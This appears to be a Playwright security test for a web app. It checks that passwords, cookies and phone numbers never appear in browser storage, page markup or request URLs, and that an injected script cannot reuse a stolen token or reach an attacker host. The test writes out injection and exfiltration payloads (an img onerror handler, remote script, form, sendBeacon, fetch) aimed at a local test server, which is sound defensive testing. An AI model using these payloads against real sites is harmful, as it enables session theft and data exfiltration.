import { type Page, request } from '@playwright/test'
import { sessionCalls, tokenOf } from '@screening-room/contract/session'
import { figure, many } from '../torture/figures.ts'
import { openAttacker } from './setup/lure.ts'
import { expect, test } from './setup/test.ts'
import { allViews, settle } from './setup/views.ts'

/* What a browser stores about a signed-in user, and what can be done with it. */

/** Everything that a script on the page, or a person at the screen, could read. */
const kept = (page: Page) =>
  page.evaluate(async () =>
    JSON.stringify([
      { ...localStorage, token: '' },
      { ...sessionStorage },
      document.cookie,
      await indexedDB.databases(),
      await caches.keys(),
      history.state,
      document.documentElement.outerHTML,
    ]),
  )

test('nobody can read a secret from the page of a signed-in user, or take one away', {
  tag: '@torture',
}, async ({ page, context, server }) => {
  test.setTimeout(600_000)
  const who = await server.addAccount('administrator')

  await test.step('no screen keeps a password or cookie where a script can read it, and no address names anybody', async () => {
    const addresses: string[] = []
    page.on('request', (one) => addresses.push(one.url()))
    page.on('framenavigated', (frame) => addresses.push(frame.url()))
    await page.goto(`${server.url}/#/login`)
    await page.getByLabel('Phone number').fill(who.phone)
    await page.getByLabel('Password', { exact: true }).fill(who.password)
    await page.getByRole('button', { name: 'Log in' }).click()
    await expect(page.getByRole('table')).toBeVisible()
    const cookies = (await context.cookies()).map(({ value }) => value)
    expect(cookies).toHaveLength(2)
    const secrets = [who.password, ...cookies]
    const views = (await allViews(server)).filter((_, n) => n % many(6, 1) === 0)
    for (const { path } of views) {
      await page.goto(`${server.url}/#${path}`)
      await settle(page)
      const text = await kept(page)
      // Their number is shown to themselves, and to administrators among the accounts.
      const named = /\/(account|team)\b/.test(path) ? [] : [who.phone]
      for (const secret of [...secrets, ...named]) expect(text, path).not.toContain(secret)
    }
    // The specification stores it there. It is a name, not a credential.
    expect(await page.evaluate(() => localStorage.getItem('token'))).toBe(tokenOf(who))
    expect(addresses.length).toBeGreaterThan(20)
    for (const secret of [...secrets, who.phone, encodeURIComponent(who.password)])
      expect(addresses.filter((address) => address.includes(secret))).toEqual([])
    figure('S8', views.length + addresses.length)
  })

  await test.step('a script that got into our page reads a token that opens nothing, and can send it to nobody', async () => {
    const attacker = await openAttacker()

    const stolen = await page.evaluate(() => ({
      token: localStorage.getItem('token'),
      cookie: document.cookie,
    }))
    expect(stolen).toEqual({ token: tokenOf(who), cookie: '' })
    const thief = await request.newContext({ baseURL: server.url })
    const headers = { authorization: `Bearer ${stolen.token}` }
    expect((await thief.get(sessionCalls.userInfo.path, { headers })).status()).toBe(401)
    await thief.dispose()

    const outcome = await page.evaluate(async (address) => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (one) =>
        violations.push(one.effectiveDirective),
      )
      const add = (markup: string) => {
        const place = document.createElement('div')
        place.innerHTML = markup
        document.body.append(place)
      }
      const script = document.createElement('script')
      script.textContent = 'window.ran = true'
      document.body.append(script)
      const far = document.createElement('script')
      far.src = `${address}/script.js`
      document.body.append(far)
      add(`<img src="${address}/picture.png" onerror="window.ran = true">`)
      add(`<iframe src="${address}/frame"></iframe><object data="${address}/object"></object>`)
      add(
        `<link rel="stylesheet" href="${address}/style.css"><video src="${address}/film"></video>`,
      )
      add(`<form id="away" method="get" action="${address}/form"><input name="t" value="1"></form>`)
      document.querySelector<HTMLFormElement>('#away')?.submit()
      navigator.sendBeacon(`${address}/beacon`, 'x')
      const sent = await fetch(`${address}/fetch`, { mode: 'no-cors' }).then(
        () => true,
        () => false,
      )
      await new Promise((resolve) => setTimeout(resolve, 500))
      const directives = [...new Set(violations)].sort()
      return { sent, ran: 'ran' in window, directives }
    }, attacker.site)
    expect(outcome).toEqual({
      sent: false,
      ran: false,
      directives: [
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'media-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ],
    })
    expect(attacker.received).toEqual([])
    await fetch(`${attacker.site}/control`)
    expect(attacker.received).toEqual(['/control'])
    attacker.close()
    figure('S4', 1)
  })
})
